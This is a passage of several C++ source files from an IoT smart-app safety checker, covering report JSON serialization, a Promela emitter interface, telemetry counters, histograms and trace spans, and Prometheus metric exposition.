  for (const std::string& r : report.rejected_apps) rejected.push_back(r);
  doc["rejected_apps"] = std::move(rejected);
  doc["related_sets"] = report.related_set_count;
  doc["handlers"] = report.scale.original_size;
  doc["scale_ratio"] = report.scale.ratio;
  doc["states_explored"] = static_cast<std::int64_t>(report.states_explored);
  doc["states_matched"] = static_cast<std::int64_t>(report.states_matched);
  doc["transitions"] = static_cast<std::int64_t>(report.transitions);
  doc["cascade_drains"] = static_cast<std::int64_t>(report.cascade_drains);
  doc["seconds"] = report.seconds;
  doc["completed"] = report.completed;
  doc["store_fill_ratio"] = report.store_fill_ratio;
  doc["est_omission_probability"] = report.est_omission_probability;
  doc["store_memory_bytes"] =
      static_cast<std::int64_t>(report.store_memory_bytes);
  json::Array violations;
  for (const checker::Violation& v : report.violations) {
    violations.push_back(checker::ViolationToJson(v));
  }
  doc["violations"] = std::move(violations);
  return json::Value(std::move(doc));
}

attrib::AttributionOptions MakeAttributionOptions(
    const RequestOptions& options, const ServiceEnv& env) {
  attrib::AttributionOptions out;
  out.enumeration.max_configs = 24;
  out.check.max_events = options.events > 0 ? options.events : 2;
  out.allow_dynamic_discovery = options.allow_discovery;
  ApplyCommonCheckOptions(out.check, options, env);
  out.cache = env.cache;
  return out;
}

AttributeResponse RunAttribute(const AttributeRequest& request,
                               const ServiceEnv& env) {
  attrib::AttributionOptions options =
      MakeAttributionOptions(request.options, env);
  AttributeResponse response;
  response.result =
      attrib::AttributeApp(request.app_source, request.deployment, options);
  response.app_name = dsl::ParseApp(request.app_source).name;
  response.text = RenderAttributionReport(response.app_name, response.result);
  response.exit_code =
      response.result.verdict == attrib::Verdict::kClean ? 0 : 1;
  return response;
}

std::string RenderAttributionReport(
    const std::string& app_name, const attrib::AttributionResult& result) {
  std::string out;
  Appendf(out, "%s\n", attrib::FormatAttribution(app_name, result).c_str());
  if (!result.safe_configs.empty()) {
    Appendf(out, "safe configurations found: %zu\n",
            result.safe_configs.size());
  }
  return out;
}

json::Value AttributionToJson(const std::string& app_name,
                              const attrib::AttributionResult& result) {
  json::Object doc;
  doc["app"] = app_name;
  doc["verdict"] = std::string(attrib::VerdictName(result.verdict));
  doc["phase1_ratio"] = result.phase1_ratio;
  doc["phase2_ratio"] = result.phase2_ratio;
  doc["phase1_configs"] = result.phase1_configs;
  doc["phase2_configs"] = result.phase2_configs;
  json::Array violated;
  for (const std::string& id : result.violated_properties) {
    violated.push_back(id);
  }
  doc["violated_properties"] = std::move(violated);
  json::Array evidence;
  for (const checker::Violation& v : result.evidence) {
    evidence.push_back(checker::ViolationToJson(v));
  }
  doc["evidence"] = std::move(evidence);
  doc["safe_configs"] = static_cast<std::int64_t>(result.safe_configs.size());
  return json::Value(std::move(doc));
}

std::string HumanBytes(std::uint64_t bytes) {
  char buf[48];
  if (bytes >= (1u << 20)) {
    std::snprintf(buf, sizeof(buf), "%.1f MiB",
                  static_cast<double>(bytes) / (1 << 20));
  } else if (bytes >= (1u << 10)) {
    std::snprintf(buf, sizeof(buf), "%.1f KiB",
                  static_cast<double>(bytes) / (1 << 10));
  } else {
    std::snprintf(buf, sizeof(buf), "%llu B",
                  static_cast<unsigned long long>(bytes));
  }
  return buf;
}

}  // namespace iotsan::core
