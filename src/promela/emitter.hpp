// Promela emitter (paper §6/§8).
//
// The paper's Translator lowers Groovy apps (via Bandera) into Promela
// and the Model Generator assembles the Promela model of the IoT system
// that Spin checks.  iotsan's checker runs natively on the IR, but this
// emitter reproduces the Translator's output: a complete Promela
// rendition of the generated model — device typedefs and global state
// (the g_ST*Arr naming of Fig. 7), one inline per event handler, the
// Algorithm-1 main event loop, and one LTL formula per active invariant.
// The emitted model is suitable for inspection and for running under a
// real Spin installation.
#pragma once

#include <string>

#include "model/system_model.hpp"

namespace iotsan::promela {

struct EmitOptions {
  /// Bound on the main event loop (Algorithm 1's "maximum number of
  /// events").
  int max_events = 3;
};

/// Emits the Promela model of `model`.
std::string EmitPromela(const model::SystemModel& model,
                        const EmitOptions& options = {});

}  // namespace iotsan::promela
