// Telemetry: lightweight observability for the checking pipeline.
//
// Four cooperating pieces, all zero-dependency and lock-free on the
// counting hot path:
//   * Registry — named monotonic counters and gauges.  Counters are
//     relaxed std::atomic<uint64_t> members grouped in structs, so the
//     parallel search workers tick them without synchronization;
//     instrumented code pays exactly one branch per event when telemetry
//     is disabled (`if (auto* t = Active())`) and one relaxed increment
//     when enabled.  Snapshots are taken on demand; nothing is formatted
//     until asked.
//   * Histogram — HdrHistogram-style log-linear latency/size
//     distributions (fixed buckets, relaxed-atomic increments, no mutex
//     on record).  Registered alongside the counters and exposed as
//     Prometheus histogram families (telemetry/prometheus.hpp).
//   * TraceSink + ScopedSpan — RAII phase spans over a steady clock.
//     Each completed span is one JSON object per line (JSONL): name,
//     start_us, dur_us, depth, attrs.  The sink also aggregates
//     per-name totals so `--stats` can report per-phase cost without a
//     trace file.  Span completion takes a mutex (spans are rare —
//     phases, not states).
//   * ProgressSnapshot — the periodic search-progress report the
//     checker hands to `CheckOptions::on_progress`: states/sec, depth
//     histogram, queue-drain counts, pruning ratio, store fill, and the
//     parallel.* section (jobs, branch progress, per-worker states).
//
// The active Registry/TraceSink are process-global raw pointers set by
// the embedding tool (CLI, bench, test); the globals must only be
// flipped between runs, not during one.
#pragma once

#include <atomic>
#include <chrono>
#include <cstdint>
#include <fstream>
#include <functional>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

#include "util/json.hpp"

namespace iotsan::telemetry {

// ---- Counter registry --------------------------------------------------------

/// Relaxed atomic counter: worker threads tick concurrently; exact
/// cross-counter consistency is only guaranteed at rest (between runs).
using Counter = std::atomic<std::uint64_t>;

/// Search-layer counters (checker + cascade engine).  All monotonic.
struct SearchCounters {
  Counter states_explored{0};    // stable states expanded
  Counter states_matched{0};     // pruned as already-seen
  Counter transitions{0};        // (event, failure) applications
  Counter cascade_drains{0};     // cascades drained to quiescence
  Counter events_injected{0};    // external events injected
  Counter handler_dispatches{0}; // app handler invocations
  Counter invariant_evals{0};    // property-expression evaluations
  Counter violations_recorded{0};
  Counter budget_stops{0};       // runs cut short by a budget
  Counter progress_reports{0};   // on_progress invocations
  Counter replays_run{0};        // deterministic trace re-executions
  Counter replays_reproduced{0}; // replays that re-fired the property
  Counter replays_refuted{0};    // bitstate violations replay killed
};

/// Pipeline-layer counters (translator, dependency analyzer, model
/// generator, output analyzer).  All monotonic.
struct PipelineCounters {
  Counter apps_parsed{0};        // SmartScript sources parsed
  Counter parse_failures{0};
  Counter type_problems{0};      // type-inference diagnostics
  Counter dependency_edges{0};   // edges in dependency graphs
  Counter related_sets{0};       // related sets computed
  Counter models_built{0};       // SystemModel instantiations
  Counter checks_run{0};         // Checker::Run completions
  Counter configs_enumerated{0}; // attribution configurations
  Counter attributions{0};       // AttributeApp completions
};

/// State-store gauges: last-written values, not monotonic.  Ratios are
/// kept in fixed point so every sample is a uint64 (permille = 1/1000,
/// ppm = 1/1e6).
struct StoreGauges {
  Counter entries{0};
  Counter memory_bytes{0};
  Counter fill_permille{0};   // bit occupancy for BITSTATE
  Counter omission_ppm{0};    // estimated hash-omission probability
  /// Average store bytes paid per stored state (key bytes + bookkeeping +
  /// intern-pool arenas when COLLAPSE compression is on).  The headline
  /// gauge the compression work is measured by.
  Counter bytes_per_state{0};
  /// How many checks ended above the 50%-occupancy saturation threshold
  /// (the stderr warning itself is emitted once per run; this counter
  /// still ticks per saturated check).  Monotonic, unlike the gauges.
  Counter saturation_warnings{0};
};

/// Partial-order-reduction counters (cascade engine, concurrent
/// scheduling with --por).  All monotonic.
struct PorCounters {
  Counter ample_singletons{0};     // expansions reduced to one pick
  Counter full_expansions{0};      // expansions that fanned out fully
  Counter interleavings_pruned{0}; // picks skipped by ample singletons
  Counter fallback_unknown{0};     // full: some footprint unboundable
  Counter fallback_visible{0};     // full: property-relevant write
  Counter fallback_conflict{0};    // full: overlapping footprints
  Counter fallback_depth{0};       // full: cascade-bound proviso
};

/// COLLAPSE state-compression counters (--state-compression).  Pool
/// entries/bytes are gauges (last-written); the rest are monotonic.
struct CompressCounters {
  Counter states_encoded{0};  // states turned into index tuples
  Counter intern_lookups{0};  // component lookups across all pools
  Counter intern_hits{0};     // ... served by an existing pool entry
  Counter pool_entries{0};    // gauge: distinct interned components
  Counter pool_bytes{0};      // gauge: arena + index bytes across pools
};

/// Incremental-analysis cache counters (src/cache): per-group result
/// memoization across check/attribute runs.  All monotonic.
struct CacheCounters {
  Counter lookups{0};           // Lookup() calls (memory or disk)
  Counter hits{0};              // results served from the cache
  Counter hits_memory{0};       // ... of which from the in-memory LRU
  Counter hits_disk{0};         // ... of which deserialized from disk
  Counter misses{0};            // lookups that fell through to a check
  Counter stores{0};            // entries written (memory and/or disk)
  Counter store_skips{0};       // results refused (incomplete/bitstate)
  Counter evictions{0};         // LRU entries displaced from memory
  Counter corrupt_entries{0};   // unreadable disk entries treated as miss
  Counter bytes_read{0};        // disk entry bytes deserialized
  Counter bytes_written{0};     // disk entry bytes written
  Counter singleflight_waits{0};// lookups that waited on an in-flight key
};

/// Parallel-execution counters: thread-pool activity and how much work
/// each fan-out layer partitioned.  All monotonic.
struct ParallelCounters {
  Counter pools_created{0};    // thread pools constructed
  Counter workers_spawned{0};  // dedicated worker threads started
  Counter tasks_run{0};        // pool task bodies executed
  Counter tasks_stolen{0};     // tasks executed on a lane != push lane
  Counter branch_tasks{0};     // checker root (event × failure) branches
  Counter group_tasks{0};      // sanitizer related sets fanned out
  Counter config_tasks{0};     // attribution configurations fanned out
};

/// Verification-service counters (src/server): HTTP traffic, request
/// outcomes, and load shedding.  Monotonic except the two gauges.
struct ServerCounters {
  Counter connections_accepted{0}; // TCP connections accepted
  Counter requests{0};             // HTTP requests routed
  Counter responses_ok{0};         // 2xx responses
  Counter responses_client_error{0}; // 4xx responses
  Counter responses_server_error{0}; // 5xx responses
  Counter checks{0};               // POST /v1/check handled
  Counter attributions{0};         // POST /v1/attribute handled
  Counter bad_requests{0};         // malformed HTTP / JSON / schema
  Counter shed_queue_full{0};      // connections shed with 503
  Counter shed_oversized{0};       // requests shed with 413
  Counter deadline_hits{0};        // requests stopped by their deadline
  Counter active_connections{0};   // gauge: sessions currently serving
  Counter queue_depth{0};          // gauge: accepted-but-unserved conns
};

/// Fleet-registry counters (src/registry): deployment lifecycle plus
/// the delta re-verification's group classification.  The reused /
/// recomputed split is the incrementality headline — the CI fleet
/// smoke asserts `registry.groups_reused > 0` after a 1-app edit.
struct FleetRegistryCounters {
  Counter deployments_put{0};      // PUT upserts accepted
  Counter deployments_deleted{0};  // DELETE removals
  Counter checks_full{0};          // checks with no reusable prior groups
  Counter checks_delta{0};         // checks that reused >=1 retained group
  Counter groups_total{0};         // groups classified across all checks
  Counter groups_reused{0};        // unchanged groups served from the prior rev
  Counter groups_recomputed{0};    // dirty + added groups re-run
  Counter revision_conflicts{0};   // If-Match guard rejections (409)
  Counter corrupt_entries{0};      // unreadable store entries (= not_found)
  Counter evictions{0};            // in-memory LRU layer evictions
};

/// Cluster-coordinator counters (src/cluster): work-unit lifecycle and
/// worker-fleet health.  Monotonic except workers_healthy.
struct ClusterCounters {
  Counter checks{0};              // coordinated checks run
  Counter units_planned{0};       // work units produced by the planner
  Counter units_dispatched{0};    // dispatch attempts (retries included)
  Counter units_completed{0};     // units merged into a report
  Counter units_redispatched{0};  // units re-queued off a failed worker
  Counter units_local{0};         // units that fell back to local execution
  Counter local_fallback_checks{0}; // whole checks degraded to local
  Counter retries{0};             // transient-error retry sleeps
  Counter worker_failures{0};     // workers marked dead mid-check
  Counter health_probes{0};       // GET /v1/health probes sent
  Counter workers_healthy{0};     // gauge: healthy workers at last probe
};

/// Byte-level memory accounting: where a verification's footprint
/// lives.  The store gauges split by kind so a bitstate run's fixed
/// bit-field and an exhaustive run's growing hash sets are separately
/// visible; peak_rss_bytes is the OS's high-water mark for the whole
/// process (monotonic by construction — getrusage never goes down).
/// These are the baseline the planned COLLAPSE/arena compression work
/// will be measured against.
struct MemoryGauges {
  Counter store_exhaustive_bytes{0};  // gauge: last exhaustive-store footprint
  Counter store_bitstate_bytes{0};    // gauge: last bitstate bit-field size
  Counter trace_buffer_bytes{0};      // JSONL span bytes emitted (monotonic)
  Counter cache_resident_bytes{0};    // gauge: in-memory result-cache footprint
  Counter peak_rss_bytes{0};          // gauge: process peak RSS, monotonic
};

/// Whether a sample is a monotonically increasing counter or a
/// last-written gauge — Prometheus exposition needs the distinction for
/// its `# TYPE` lines (JSON output carries values only and is unchanged
/// by the kind).
enum class SampleKind { kCounter, kGauge };

struct Sample {
  std::string name;
  std::uint64_t value = 0;
  SampleKind kind = SampleKind::kCounter;
};

// ---- Histograms --------------------------------------------------------------

/// A mergeable point-in-time view of one Histogram: total count/sum,
/// the largest recorded value, and the non-empty buckets in ascending
/// order of their inclusive upper bound.
struct HistogramSnapshot {
  struct Bucket {
    std::uint64_t le = 0;     // inclusive upper bound of the bucket
    std::uint64_t count = 0;  // records in this bucket (not cumulative)
  };
  std::uint64_t count = 0;
  std::uint64_t sum = 0;
  std::uint64_t max = 0;
  std::vector<Bucket> buckets;

  /// Upper-bound estimate of the q-quantile (q in [0, 1]); 0 when empty.
  /// The answer is the bound of the bucket holding the target rank, so
  /// it is exact for small values and within the bucket width (12.5%)
  /// beyond the linear range.
  double Quantile(double q) const;
  double P50() const { return Quantile(0.50); }
  double P90() const { return Quantile(0.90); }
  double P99() const { return Quantile(0.99); }

  /// Folds `other` in: counts add bucket-wise, max takes the larger.
  void Merge(const HistogramSnapshot& other);
};

/// A lock-free log-linear histogram for microsecond latencies and byte
/// sizes (HdrHistogram's bucketing, fixed at 8 sub-buckets per power of
/// two: values 0..7 are exact, larger ones land within 12.5% of their
/// bucket bound).  Record() is wait-free — one relaxed fetch_add per
/// bucket/sum plus a relaxed CAS loop for the max — so search workers,
/// pool threads, and HTTP sessions record concurrently with no mutex.
class Histogram {
 public:
  /// log2 of the sub-bucket count per power of two.
  static constexpr unsigned kSubBucketBits = 3;
  static constexpr unsigned kSubBuckets = 1u << kSubBucketBits;
  /// Bucket count covering 0 .. 2^62-1 (larger values clamp into the
  /// last bucket): 8 exact + 8 per msb position 3..61.
  static constexpr std::size_t kBuckets = kSubBuckets * 60;

  void Record(std::uint64_t value);

  /// Index of the bucket holding `value`, and the bucket's inclusive
  /// upper bound (exposed for the tests).
  static std::size_t BucketIndex(std::uint64_t value);
  static std::uint64_t BucketUpperBound(std::size_t index);

  /// Relaxed-consistent snapshot: buckets recorded mid-snapshot may or
  /// may not appear; exact totals are only guaranteed at rest.
  HistogramSnapshot TakeSnapshot() const;

  void Reset();

 private:
  std::atomic<std::uint64_t> buckets_[kBuckets] = {};
  std::atomic<std::uint64_t> count_{0};
  std::atomic<std::uint64_t> sum_{0};
  std::atomic<std::uint64_t> max_{0};
};

/// Search-layer distributions: how long one related-set group takes to
/// check end to end (cache hits included — that is the latency a caller
/// observes) and the search throughput each computed group achieved.
struct SearchHistograms {
  Histogram group_check_duration_us;
  Histogram group_states_per_second;
};

/// Cache lookup latency, split by outcome so a disk-heavy cache cannot
/// hide behind fast memory hits.
struct CacheHistograms {
  Histogram lookup_hit_duration_us;
  Histogram lookup_miss_duration_us;
};

/// Thread-pool distributions, fed through util::SetPoolTimingHooks (the
/// pool itself stays below telemetry): per-task run time and how long an
/// idle worker waited before it obtained its next task.
struct ParallelHistograms {
  Histogram task_run_duration_us;
  Histogram steal_wait_duration_us;
};

/// Verification-service distributions: request handling latency, how
/// long an accepted connection sat in the queue before a session thread
/// picked it up, and request body sizes.
struct ServerHistograms {
  Histogram request_duration_us;
  Histogram queue_wait_us;
  Histogram request_body_bytes;
};

/// Fleet-registry distributions: wall-clock latency of a full check vs.
/// a delta re-check (the bench_fleet_delta headline split).
struct FleetRegistryHistograms {
  Histogram full_check_duration_us;
  Histogram delta_check_duration_us;
};

/// Cluster distributions: end-to-end latency of one dispatched work
/// unit (HTTP round trip included — the coordinator's cost per unit).
struct ClusterHistograms {
  Histogram dispatch_latency_us;
};

/// One named histogram in a Registry snapshot ("server.request_duration_us").
struct HistogramSample {
  std::string name;
  HistogramSnapshot snapshot;
};

class Registry {
 public:
  SearchCounters search;
  PipelineCounters pipeline;
  StoreGauges store;
  PorCounters por;
  CompressCounters compress;
  ParallelCounters parallel;
  CacheCounters cache;
  ServerCounters server;
  FleetRegistryCounters registry;
  ClusterCounters cluster;
  MemoryGauges memory;

  SearchHistograms search_hist;
  CacheHistograms cache_hist;
  ParallelHistograms parallel_hist;
  ServerHistograms server_hist;
  FleetRegistryHistograms registry_hist;
  ClusterHistograms cluster_hist;

  /// All counters and gauges as dotted names ("search.states_explored"),
  /// in a stable order, each tagged counter vs. gauge.
  std::vector<Sample> Snapshot() const;

  /// All histograms as dotted names, in a stable order.
  std::vector<HistogramSample> SnapshotHistograms() const;

  /// {"search": {...}, "pipeline": {...}, "store": {...}, "por": {...},
  ///  "compress": {...}, "parallel": {...}, "cache": {...},
  ///  "server": {...}, "memory": {...}}.
  json::Value ToJson() const;

  void Reset();
};

/// The process-global registry; null = telemetry disabled (the one
/// branch instrumented code pays).
Registry* Active();
void SetActive(Registry* registry);

/// The process's peak resident-set size in bytes (getrusage), 0 when
/// unavailable.  Monotonic: the kernel's high-water mark never drops.
std::uint64_t ReadPeakRssBytes();

/// Samples ReadPeakRssBytes() into `registry.memory.peak_rss_bytes`
/// and returns the value — called at check completion and on every
/// metrics/status snapshot so the gauge stays fresh without a poller.
std::uint64_t SamplePeakRss(Registry& registry);

// ---- Phase spans and the JSONL trace sink ------------------------------------

class TraceSink {
 public:
  /// Totals-only sink: spans are timed and aggregated but not written.
  TraceSink();
  /// Additionally appends one JSON object per completed span to `path`.
  /// Throws iotsan::Error when the file cannot be opened.
  explicit TraceSink(const std::string& path);
  ~TraceSink();
  TraceSink(const TraceSink&) = delete;
  TraceSink& operator=(const TraceSink&) = delete;

  struct Total {
    std::uint64_t count = 0;
    std::uint64_t total_us = 0;
  };
  /// Aggregated span durations by name.
  const std::map<std::string, Total, std::less<>>& totals() const {
    return totals_;
  }

  /// Microseconds since the sink was created (steady clock).
  std::uint64_t NowUs() const;

  void Flush();

 private:
  friend class ScopedSpan;

  void EndSpan(const std::string& name, std::uint64_t start_us,
               std::uint64_t dur_us, int depth, const json::Object* attrs);

  std::chrono::steady_clock::time_point epoch_;
  std::ofstream out_;
  bool to_file_ = false;
  std::atomic<int> open_spans_{0};  // current nesting depth
  // Guards totals_ and the output stream: spans may complete on pool
  // worker threads concurrently.
  std::mutex mutex_;
  std::map<std::string, Total, std::less<>> totals_;
};

/// The process-global trace sink; null = tracing disabled.
TraceSink* ActiveTrace();
void SetActiveTrace(TraceSink* sink);

/// RAII phase span.  Construction records the start time and nesting
/// depth; destruction emits one JSONL line and feeds the per-name
/// totals.  A null sink makes every operation a no-op (the clock is not
/// even read).
class ScopedSpan {
 public:
  ScopedSpan(TraceSink* sink, std::string_view name);
  /// Opens the span on the process-global sink (ActiveTrace()).
  explicit ScopedSpan(std::string_view name)
      : ScopedSpan(ActiveTrace(), name) {}
  ~ScopedSpan();
  ScopedSpan(const ScopedSpan&) = delete;
  ScopedSpan& operator=(const ScopedSpan&) = delete;

  /// Attach a key/value attribute, emitted with the span's JSONL line.
  void Attr(std::string_view key, std::string_view value);
  void Attr(std::string_view key, std::int64_t value);
  void Attr(std::string_view key, std::uint64_t value);
  void Attr(std::string_view key, double value);

 private:
  json::Object& MutableAttrs();

  TraceSink* sink_;
  std::string name_;
  std::uint64_t start_us_ = 0;
  int depth_ = 0;
  std::unique_ptr<json::Object> attrs_;  // allocated only when used
};

// ---- Search progress ---------------------------------------------------------

/// A point-in-time view of a running (or finished) search, delivered to
/// `CheckOptions::on_progress` every `progress_every` expanded states
/// and once more when a budget stops the run.
struct ProgressSnapshot {
  std::uint64_t states_explored = 0;
  std::uint64_t states_matched = 0;
  std::uint64_t transitions = 0;
  std::uint64_t cascade_drains = 0;
  double elapsed_seconds = 0;
  double states_per_second = 0;
  /// matched / (explored + matched): how much of the reachable frontier
  /// the store is pruning.
  double pruning_ratio = 0;
  /// Bit occupancy for BITSTATE stores, 0 for exhaustive.
  double store_fill_ratio = 0;
  /// States expanded per external-event depth (index 0 = initial state).
  std::vector<std::uint64_t> depth_histogram;

  // ---- parallel.* section (meaningful when jobs > 1) ----
  /// Worker lanes the search runs on (1 = serial).
  int jobs = 1;
  /// Root-level (event × failure) branches partitioned across workers.
  std::uint64_t branches_total = 0;
  std::uint64_t branches_done = 0;
  /// States expanded per worker lane (empty for serial runs).
  std::vector<std::uint64_t> worker_states_explored;

  // ---- cache.* section (meaningful when an analysis cache is active) ----
  /// Related-set groups served from / missed by the incremental analysis
  /// cache so far this run (mirrors the active Registry's cache.hits /
  /// cache.misses at snapshot time; both 0 when no cache is configured).
  std::uint64_t cache_hits = 0;
  std::uint64_t cache_misses = 0;
};

using ProgressCallback = std::function<void(const ProgressSnapshot&)>;

/// One-line human rendering ("progress: 12000 states (3400/s), ...").
std::string FormatProgress(const ProgressSnapshot& snapshot);

// ---- Group progress ----------------------------------------------------------

/// Coarse progress of one whole verification: how many related-set
/// groups have finished out of how many dispatched.  Emitted by the
/// sanitizer after each group completes (from whichever pool thread ran
/// it), separately from the per-state ProgressSnapshot stream so the
/// CLI's stderr cadence is untouched.  This is what feeds the server's
/// in-flight request table (`GET /v1/status`) and SSE progress events.
struct GroupProgress {
  std::uint64_t groups_total = 0;
  std::uint64_t groups_done = 0;     // completed groups, including this one
  std::uint64_t states_explored = 0; // cumulative across finished groups
  std::uint64_t store_memory_bytes = 0;  // this group's store footprint
  double seconds = 0;                // this group's search time
};

using GroupProgressCallback = std::function<void(const GroupProgress&)>;

}  // namespace iotsan::telemetry
