// Telemetry: lightweight observability for the checking pipeline.
//
// Three cooperating pieces, all zero-dependency and lock-free on the
// sequential hot path:
//   * Registry — named monotonic counters and gauges.  Counters are
//     plain uint64_t members grouped in structs; instrumented code pays
//     exactly one branch per event when telemetry is disabled
//     (`if (auto* t = Active())`) and one increment when enabled.
//     Snapshots are taken on demand; nothing is formatted until asked.
//   * TraceSink + ScopedSpan — RAII phase spans over a steady clock.
//     Each completed span is one JSON object per line (JSONL): name,
//     start_us, dur_us, depth, attrs.  The sink also aggregates
//     per-name totals so `--stats` can report per-phase cost without a
//     trace file.
//   * ProgressSnapshot — the periodic search-progress report the
//     checker hands to `CheckOptions::on_progress`: states/sec, depth
//     histogram, queue-drain counts, pruning ratio, store fill.
//
// The active Registry/TraceSink are process-global raw pointers set by
// the embedding tool (CLI, bench, test); null means disabled.  The
// search itself is single-threaded, so no synchronization is needed —
// the globals must only be flipped between runs, not during one.
#pragma once

#include <chrono>
#include <cstdint>
#include <fstream>
#include <functional>
#include <map>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "util/json.hpp"

namespace iotsan::telemetry {

// ---- Counter registry --------------------------------------------------------

/// Search-layer counters (checker + cascade engine).  All monotonic.
struct SearchCounters {
  std::uint64_t states_explored = 0;    // stable states expanded
  std::uint64_t states_matched = 0;     // pruned as already-seen
  std::uint64_t transitions = 0;        // (event, failure) applications
  std::uint64_t cascade_drains = 0;     // cascades drained to quiescence
  std::uint64_t events_injected = 0;    // external events injected
  std::uint64_t handler_dispatches = 0; // app handler invocations
  std::uint64_t invariant_evals = 0;    // property-expression evaluations
  std::uint64_t violations_recorded = 0;
  std::uint64_t budget_stops = 0;       // runs cut short by a budget
  std::uint64_t progress_reports = 0;   // on_progress invocations
  std::uint64_t replays_run = 0;        // deterministic trace re-executions
  std::uint64_t replays_reproduced = 0; // replays that re-fired the property
  std::uint64_t replays_refuted = 0;    // bitstate violations replay killed
};

/// Pipeline-layer counters (translator, dependency analyzer, model
/// generator, output analyzer).  All monotonic.
struct PipelineCounters {
  std::uint64_t apps_parsed = 0;        // SmartScript sources parsed
  std::uint64_t parse_failures = 0;
  std::uint64_t type_problems = 0;      // type-inference diagnostics
  std::uint64_t dependency_edges = 0;   // edges in dependency graphs
  std::uint64_t related_sets = 0;       // related sets computed
  std::uint64_t models_built = 0;       // SystemModel instantiations
  std::uint64_t checks_run = 0;         // Checker::Run completions
  std::uint64_t configs_enumerated = 0; // attribution configurations
  std::uint64_t attributions = 0;       // AttributeApp completions
};

/// State-store gauges: last-written values, not monotonic.  Ratios are
/// kept in fixed point so every sample is a uint64 (permille = 1/1000,
/// ppm = 1/1e6).
struct StoreGauges {
  std::uint64_t entries = 0;
  std::uint64_t memory_bytes = 0;
  std::uint64_t fill_permille = 0;   // bit occupancy for BITSTATE
  std::uint64_t omission_ppm = 0;    // estimated hash-omission probability
  /// How many checks ended above the 50%-occupancy saturation threshold
  /// (the stderr warning itself is emitted once per run; this counter
  /// still ticks per saturated check).  Monotonic, unlike the gauges.
  std::uint64_t saturation_warnings = 0;
};

struct Sample {
  std::string name;
  std::uint64_t value = 0;
};

class Registry {
 public:
  SearchCounters search;
  PipelineCounters pipeline;
  StoreGauges store;

  /// All counters and gauges as dotted names ("search.states_explored"),
  /// in a stable order.
  std::vector<Sample> Snapshot() const;

  /// {"search": {...}, "pipeline": {...}, "store": {...}}.
  json::Value ToJson() const;

  void Reset() { *this = Registry(); }
};

/// The process-global registry; null = telemetry disabled (the one
/// branch instrumented code pays).
Registry* Active();
void SetActive(Registry* registry);

// ---- Phase spans and the JSONL trace sink ------------------------------------

class TraceSink {
 public:
  /// Totals-only sink: spans are timed and aggregated but not written.
  TraceSink();
  /// Additionally appends one JSON object per completed span to `path`.
  /// Throws iotsan::Error when the file cannot be opened.
  explicit TraceSink(const std::string& path);
  ~TraceSink();
  TraceSink(const TraceSink&) = delete;
  TraceSink& operator=(const TraceSink&) = delete;

  struct Total {
    std::uint64_t count = 0;
    std::uint64_t total_us = 0;
  };
  /// Aggregated span durations by name.
  const std::map<std::string, Total, std::less<>>& totals() const {
    return totals_;
  }

  /// Microseconds since the sink was created (steady clock).
  std::uint64_t NowUs() const;

  void Flush();

 private:
  friend class ScopedSpan;

  void EndSpan(const std::string& name, std::uint64_t start_us,
               std::uint64_t dur_us, int depth, const json::Object* attrs);

  std::chrono::steady_clock::time_point epoch_;
  std::ofstream out_;
  bool to_file_ = false;
  int open_spans_ = 0;  // current nesting depth
  std::map<std::string, Total, std::less<>> totals_;
};

/// The process-global trace sink; null = tracing disabled.
TraceSink* ActiveTrace();
void SetActiveTrace(TraceSink* sink);

/// RAII phase span.  Construction records the start time and nesting
/// depth; destruction emits one JSONL line and feeds the per-name
/// totals.  A null sink makes every operation a no-op (the clock is not
/// even read).
class ScopedSpan {
 public:
  ScopedSpan(TraceSink* sink, std::string_view name);
  /// Opens the span on the process-global sink (ActiveTrace()).
  explicit ScopedSpan(std::string_view name)
      : ScopedSpan(ActiveTrace(), name) {}
  ~ScopedSpan();
  ScopedSpan(const ScopedSpan&) = delete;
  ScopedSpan& operator=(const ScopedSpan&) = delete;

  /// Attach a key/value attribute, emitted with the span's JSONL line.
  void Attr(std::string_view key, std::string_view value);
  void Attr(std::string_view key, std::int64_t value);
  void Attr(std::string_view key, std::uint64_t value);
  void Attr(std::string_view key, double value);

 private:
  json::Object& MutableAttrs();

  TraceSink* sink_;
  std::string name_;
  std::uint64_t start_us_ = 0;
  int depth_ = 0;
  std::unique_ptr<json::Object> attrs_;  // allocated only when used
};

// ---- Search progress ---------------------------------------------------------

/// A point-in-time view of a running (or finished) search, delivered to
/// `CheckOptions::on_progress` every `progress_every` expanded states
/// and once more when a budget stops the run.
struct ProgressSnapshot {
  std::uint64_t states_explored = 0;
  std::uint64_t states_matched = 0;
  std::uint64_t transitions = 0;
  std::uint64_t cascade_drains = 0;
  double elapsed_seconds = 0;
  double states_per_second = 0;
  /// matched / (explored + matched): how much of the reachable frontier
  /// the store is pruning.
  double pruning_ratio = 0;
  /// Bit occupancy for BITSTATE stores, 0 for exhaustive.
  double store_fill_ratio = 0;
  /// States expanded per external-event depth (index 0 = initial state).
  std::vector<std::uint64_t> depth_histogram;
};

using ProgressCallback = std::function<void(const ProgressSnapshot&)>;

/// One-line human rendering ("progress: 12000 states (3400/s), ...").
std::string FormatProgress(const ProgressSnapshot& snapshot);

}  // namespace iotsan::telemetry
