// Prometheus text exposition (format 0.0.4) for the telemetry registry.
//
// RenderPrometheus turns a Registry snapshot into `# TYPE`-annotated
// counter / gauge / histogram families: every dotted metric name becomes
// `iotsan_` + the name with separators flattened to underscores, and each
// histogram expands into the conventional cumulative `_bucket{le="..."}`
// series (ending at `le="+Inf"`), `_sum`, and `_count`.
//
// ValidateExposition is the in-repo scrape-side check used by tests and
// the CI smoke step: it parses a whole exposition and returns one message
// per defect (empty vector == valid).
#pragma once

#include <string>
#include <vector>

namespace iotsan::telemetry {

class Registry;

/// Content type to serve alongside RenderPrometheus output.
inline constexpr char kPrometheusContentType[] =
    "text/plain; version=0.0.4; charset=utf-8";

/// Maps a dotted registry metric name ("server.request_duration_us") to
/// its exposition family name ("iotsan_server_request_duration_us").
std::string PrometheusName(const std::string& dotted);

/// Renders every counter, gauge, and histogram in `registry` as
/// Prometheus text exposition 0.0.4.
std::string RenderPrometheus(const Registry& registry);

/// Validates `text` as Prometheus text exposition: every line must parse
/// (TYPE comments, samples, optional labels), histogram bucket series
/// must be cumulative/monotone and end with le="+Inf" equal to the
/// family's `_count`.  Returns one human-readable message per problem.
std::vector<std::string> ValidateExposition(const std::string& text);

}  // namespace iotsan::telemetry
