#include "telemetry/prometheus.hpp"

#include <cctype>
#include <cinttypes>
#include <cstdio>
#include <cstdlib>
#include <map>
#include <sstream>
#include <string_view>

#include "telemetry/telemetry.hpp"

namespace iotsan::telemetry {

